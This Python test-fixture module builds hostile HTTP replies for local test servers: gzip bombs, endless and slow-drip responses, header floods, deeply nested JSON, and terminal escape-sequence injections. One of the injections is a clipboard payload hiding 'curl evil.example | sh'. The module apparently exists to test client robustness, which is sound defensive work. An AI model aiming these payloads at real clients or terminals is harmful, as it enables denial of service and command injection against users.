"""What a hostile registry, token service or redirect target sends, for `local_http` servers.

Each builder returns a `Reply` (or the raw `Writer` behind one) reproducing one attack of
issue 11: endless or compressed-bomb bodies, answers dripped one byte at a time, floods of
challenges, JSON nested thousands deep, escape sequences where text is expected.
"""

from __future__ import annotations

import contextlib
import functools
import socket
import struct
import threading
import zlib
from collections.abc import Iterator
from typing import BinaryIO

from testbed.local_http import (
    LocalServer,
    Reply,
    Script,
    Seen,
    Writer,
    bearer_challenge,
    registry_ok,
)

ESC = "\x1b"
TERMINAL_ATTACKS = {
    "window title": f"{ESC}]0;pwned{ESC}\\",
    "OSC 52 clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "OSC 8 hyperlink": f"{ESC}]8;;https://evil.example/{ESC}\\click here{ESC}]8;;{ESC}\\",
    "erase line + fake text": f"{ESC}[2K\r\u2714 Login Succeeded",
    "C1 CSI and OSC": "\x9b2J\x9d0;pwned\x07",
    "bidi override": "\u202etxt.exe",
}
"""Escape sequences that act on a terminal if printed raw, by what they do."""


def raw_controls(text: str) -> list[str]:
    """The characters of `text` a terminal would act on (empty when it is safe to print)."""
    return sorted({ch for ch in text if not ch.isprintable() and ch not in "\n"})


def endless_chunked(status: int = 302, headers: tuple[tuple[str, str], ...] = ()) -> Reply:
    """A status line, headers, then a chunked body that never ends (until the client leaves)."""

    def write(wfile: BinaryIO, stop: threading.Event) -> None:
        head = f"HTTP/1.1 {status} Moved\r\nTransfer-Encoding: chunked\r\n"
        head += "".join(f"{name}: {value}\r\n" for name, value in headers) + "\r\n"
        wfile.write(head.encode("latin-1"))
        chunk = b"%x\r\n%s\r\n" % (64 * 1024, b"A" * 64 * 1024)
        while not stop.is_set():
            wfile.write(chunk)

    return Reply(writer=write)


def dripped(data: bytes, interval: float = 1.0) -> Writer:
    """Send `data` one byte every `interval` seconds, then keep the connection open."""

    def write(wfile: BinaryIO, stop: threading.Event) -> None:
        for byte in data:
            if stop.wait(interval):
                return
            wfile.write(bytes([byte]))
            wfile.flush()
        stop.wait(60)

    return write


def slow_status_line() -> Reply:
    return Reply(writer=dripped(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n"))


def slow_headers() -> Reply:
    """The status line at once, then headers that never finish."""

    def write(wfile: BinaryIO, stop: threading.Event) -> None:
        wfile.write(b"HTTP/1.1 401 Unauthorized\r\n")
        wfile.flush()
        dripped(b'WWW-Authenticate: Basic realm="' + b"x" * 4000 + b'"\r\n\r\n')(wfile, stop)

    return Reply(writer=write)


def slow_body(status: int = 200) -> Reply:
    """Headers at once, a body announced at 1000 bytes and sent one byte per second."""

    def write(wfile: BinaryIO, stop: threading.Event) -> None:
        wfile.write(b"HTTP/1.1 %d X\r\nContent-Length: 1000\r\n\r\n" % status)
        wfile.flush()
        dripped(b"{" + b" " * 999)(wfile, stop)

    return Reply(writer=write)


@functools.lru_cache(maxsize=4)
def gzip_bomb(inflated: int = 1024**3, layers: int = 2) -> bytes:
    """`inflated` zero bytes gzipped `layers` times (1 GiB in two layers: about 2 KB).

    The inner stream repeats one fully flushed deflate block of a MiB of zeros, which is the
    same bytes every time, so building it costs milliseconds, not a GiB of compression.
    """
    mib = bytes(1024 * 1024)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    count = inflated // len(mib)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(mib, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"
    trailer = struct.pack("<II", crc, (count * len(mib)) & 0xFFFFFFFF)
    data = header + block * count + packer.flush() + trailer
    for _ in range(layers - 1):
        outer = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = outer.compress(data) + outer.flush()
    return data


def bomb(
    status: int = 200,
    layers: int = 2,
    headers: tuple[tuple[str, str], ...] = (),
    inflated: int = 1024**3,
) -> Reply:
    """A gzip bomb answer: `inflated` bytes of zeros behind `layers` gzip layers."""
    encoding = ", ".join(["gzip"] * layers)
    return Reply(
        status,
        [("Content-Encoding", encoding), ("Content-Type", "application/json"), *headers],
        gzip_bomb(inflated, layers),
    )


def challenge_flood(headers: int = 97, size: int = 16 * 1024) -> Reply:
    """`headers` WWW-Authenticate headers of `size` bytes, each a run of tiny challenges."""
    value = (", ".join(["Basic"] * (size // 7)) + ", " + "B" * size)[:size]
    return Reply(401, [("WWW-Authenticate", value)] * headers, b"")


def deep_json(depth: int = 5000, key: str | None = None) -> bytes:
    """Arrays nested `depth` deep, or (with `key`) objects nesting under `key`."""
    if key is None:
        return b"[" * depth + b"]" * depth
    return (f'{{"{key}":' * depth + '"x"' + "}" * depth).encode()


@contextlib.contextmanager
def bearer_pair(token_script: Script) -> Iterator[tuple[LocalServer, LocalServer]]:
    """(registry, token service) on 127.0.0.1: the registry sends clients to the token service
    and accepts any bearer token; the token service answers with `token_script`."""
    with LocalServer(token_script) as token_service:

        def registry_script(seen: Seen) -> Reply:
            if seen.headers.get("Authorization", "").startswith("Bearer "):
                return registry_ok()
            return bearer_challenge(f"{token_service.url}/token")

        with LocalServer(registry_script) as registry:
            yield registry, token_service


class TcpDripper:
    """A TCP port on 127.0.0.1 that accepts and sends one byte per second, whatever comes
    in: a TLS handshake or an HTTP answer that never completes."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.netloc = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self.connections = 0

    def _serve(self) -> None:
        self._listener.settimeout(0.1)
        while not self._stop.is_set():
            try:
                connection, _ = self._listener.accept()
            except OSError:
                continue
            self.connections += 1
            threading.Thread(target=self._drip, args=(connection,), daemon=True).start()

    def _drip(self, connection: socket.socket) -> None:
        with connection:
            while not self._stop.wait(1.0):
                try:
                    connection.sendall(b"\x16")
                except OSError:
                    return

    def __enter__(self) -> TcpDripper:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._listener.close()
        self._thread.join(5)
